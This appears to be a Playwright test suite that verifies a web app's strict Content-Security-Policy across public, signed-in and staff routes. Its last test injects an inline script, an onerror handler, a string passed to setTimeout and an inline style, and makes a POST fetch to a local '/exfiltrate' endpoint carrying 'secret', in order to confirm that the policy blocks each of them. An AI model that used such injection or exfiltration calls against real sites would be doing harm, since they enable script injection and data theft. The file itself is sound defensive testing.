/**
 * The production build's Content-Security-Policy (vite/csp.ts writes it into index.html at
 * build time): present and strict, no violation on any main route (signed out and signed in,
 * service worker and a file download included), and it does its job: injected inline script,
 * inline handlers, eval, inline styles and calls to other origins are all refused.
 */
import type { Page } from '@playwright/test'
import { expect, test } from '@playwright/test'
import { BACKEND_URL } from '../../playwright.config'
import { ROUTES, waitForServiceWorker } from './fixtures'

declare global {
  interface Window {
    __cspViolations: string[]
    __injected?: boolean
  }
}

/** Collects CSP violations (the DOM event, in every document) and CSP messages on the console. */
async function watchCsp(page: Page) {
  const messages: string[] = []
  page.on('console', (m) => {
    if (/Content Security Policy|Content-Security-Policy/i.test(m.text()))
      messages.push(m.text())
  })
  page.on('pageerror', e => messages.push(`pageerror: ${e.message}`))
  await page.addInitScript(() => {
    window.__cspViolations = []
    document.addEventListener('securitypolicyviolation', e =>
      window.__cspViolations.push(`${e.violatedDirective} ${e.blockedURI} ${e.sample}`))
  })
  return {
    messages,
    violations: () => page.evaluate(() => window.__cspViolations),
  }
}

async function visit(page: Page, path: string) {
  await page.goto(path)
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
}

test('the policy is in the page, strict, and names the Supabase project', async ({ page }) => {
  await page.goto('/')
  const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content')
  expect(policy).toBeTruthy()
  const directives = new Map(policy!.split(';').map(d => d.trim().split(/\s+/)).map(([name, ...values]) => [name!, values]))
  expect(directives.get('default-src')).toEqual(['\'self\''])
  expect(directives.get('script-src')).toEqual(['\'self\''])
  expect(directives.get('style-src')).toEqual(['\'self\''])
  expect(directives.get('img-src')).toEqual(['\'self\'', 'data:'])
  expect(directives.get('connect-src')).toEqual(['\'self\'', new URL(BACKEND_URL).origin])
  expect(directives.get('worker-src')).toEqual(['\'self\''])
  expect(directives.get('manifest-src')).toEqual(['\'self\''])
  expect(directives.get('object-src')).toEqual(['\'none\''])
  expect(directives.get('base-uri')).toEqual(['\'none\''])
  expect(policy).not.toMatch(/unsafe-inline|unsafe-eval|\*/)
  // A <meta> cannot carry frame-ancestors (the host's headers do): it would only log an error.
  expect(directives.has('frame-ancestors')).toBe(false)
  // It governs everything: it comes before any script or stylesheet.
  const order = await page.evaluate(() => [...document.head.children].map(e => e.getAttribute('http-equiv') ?? e.tagName))
  expect(order.indexOf('Content-Security-Policy')).toBeLessThan(order.indexOf('SCRIPT'))
})

test('every public route loads without a single violation, service worker included', async ({ page }) => {
  const csp = await watchCsp(page)
  await visit(page, '/')
  await waitForServiceWorker(page)
  for (const route of ROUTES)
    await visit(page, route)
  expect(await csp.violations()).toEqual([])
  expect(csp.messages).toEqual([])
})

test('signed-in screens and a data download raise no violation either', async ({ page }) => {
  const csp = await watchCsp(page)
  await page.goto('/connexion?redirect=/compte')
  await page.getByLabel('Je suis professionnel ou professionnelle').check()
  await page.getByLabel('Adresse e-mail').fill('allocataire@demo.reperes.paris')
  await page.getByLabel('Mot de passe').fill('demo-password')
  await page.getByRole('button', { name: 'Me connecter' }).click()
  await expect(page).toHaveURL('/compte')
  const download = page.waitForEvent('download')
  await page.getByTestId('account-export-html').click()
  expect((await download).suggestedFilename()).toMatch(/\.html$/)
  for (const route of ['/rendez-vous', '/prestations/propositions', '/avis', '/livret', '/compte'])
    await visit(page, route)
  expect(await csp.violations()).toEqual([])
  expect(csp.messages).toEqual([])
})

/** Each staff area, with an account that opens it (supabase/seed.sql). */
const STAFF_AREAS: [string, string[]][] = [
  ['referent@demo.reperes.paris', ['/suivi', '/suivi/allocataires', '/suivi/orientations', '/suivi/rendez-vous/nouveau']],
  ['outreach@demo.reperes.paris', ['/terrain', '/terrain/contacts', '/terrain/contact/nouveau', '/terrain/tableau-de-bord']],
  ['groupe@demo.reperes.paris', ['/groupe', '/groupe/avis']],
  ['coordinator@demo.reperes.paris', ['/admin', '/admin/indicateurs', '/admin/avis', '/admin/comptes', '/admin/journal', '/admin/livret', '/admin/catalogue', '/admin/consultations', '/admin/consultations/nouvelle']],
]

for (const [email, routes] of STAFF_AREAS) {
  test(`the ${email.split('@')[0]} screens raise no violation`, async ({ page }) => {
    const csp = await watchCsp(page)
    await page.goto(`/connexion?redirect=${encodeURIComponent(routes[0]!)}`)
    await page.getByLabel('Je suis professionnel ou professionnelle').check()
    await page.getByLabel('Adresse e-mail').fill(email)
    await page.getByLabel('Mot de passe').fill('demo-password')
    await page.getByRole('button', { name: 'Me connecter' }).click()
    await expect(page).toHaveURL(routes[0]!)
    for (const route of routes)
      await visit(page, route)
    expect(await csp.violations()).toEqual([])
    expect(csp.messages).toEqual([])
  })
}

test('injected script, handlers, eval, inline style and other origins are refused', async ({ page }) => {
  await watchCsp(page)
  await visit(page, '/')
  const outcome = await page.evaluate(async () => {
    const script = document.createElement('script')
    script.textContent = 'window.__injected = true'
    document.head.append(script)
    const img = document.createElement('img')
    img.setAttribute('onerror', 'window.__injected = true')
    img.src = 'data:,not-an-image'
    document.body.append(img)
    // A string run as code later, by the page itself (code evaluated through the DevTools
    // protocol, as this function is, is exempt from the policy).
    setTimeout('window.__injected = true', 0)
    const div = document.createElement('div')
    div.setAttribute('style', 'color: red')
    document.body.append(div)
    let fetched = 'reached'
    try {
      await fetch('http://127.0.0.1:9/exfiltrate', { method: 'POST', body: 'secret' })
    }
    catch {
      fetched = 'blocked'
    }
    await new Promise(r => setTimeout(r, 200))
    return { injected: window.__injected ?? false, fetched, inlineColor: getComputedStyle(div).color }
  })
  expect(outcome).toEqual({ injected: false, fetched: 'blocked', inlineColor: expect.not.stringMatching(/255, 0, 0/) })
  const violations = await page.evaluate(() => window.__cspViolations.map(v => v.split(' ')[0]))
  expect(violations).toEqual(expect.arrayContaining(['script-src-elem', 'script-src-attr', 'script-src', 'style-src-attr', 'connect-src']))
})
